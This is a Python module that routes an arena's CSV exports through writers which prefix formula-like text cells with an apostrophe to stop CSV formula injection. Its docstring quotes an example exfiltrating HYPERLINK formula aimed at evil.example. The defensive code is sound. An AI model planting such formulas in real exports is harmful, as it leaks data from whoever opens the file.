"""The one CSV writer: every CSV the arena exports is written here, with formula cells defused.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula: ``=HYPERLINK("http://evil.example/?"&A1, "click")`` in a model's
answer, a label or a typed username would run on the machine of whoever opens the export. As
OWASP advises, such a text cell gets a leading ``'``, which spreadsheets show as text. Numbers
stay numbers (``-1.5`` is a value, not a formula), so only strings are changed: CSV cells are
therefore not always the stored bytes; the JSON exports are.

``tests/test_csv_safe.py`` checks that no other module calls ``csv.writer`` or ``csv.DictWriter``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, Final, TextIO

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def defuse(value: Any) -> Any:
    """``value``, with a ``'`` in front if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class Writer:
    """``csv.writer`` whose every text cell goes through ``defuse``."""

    def __init__(self, out: TextIO, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([defuse(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter:
    """``csv.DictWriter`` (keys not in ``fieldnames`` ignored, missing ones empty), defused."""

    def __init__(self, out: TextIO, fieldnames: Sequence[str], *, lineterminator: str = "\r\n") -> None:
        self.fieldnames = tuple(fieldnames)
        self._writer = Writer(out, lineterminator=lineterminator)

    def writeheader(self) -> None:
        self._writer.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow(row.get(name, "") for name in self.fieldnames)

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
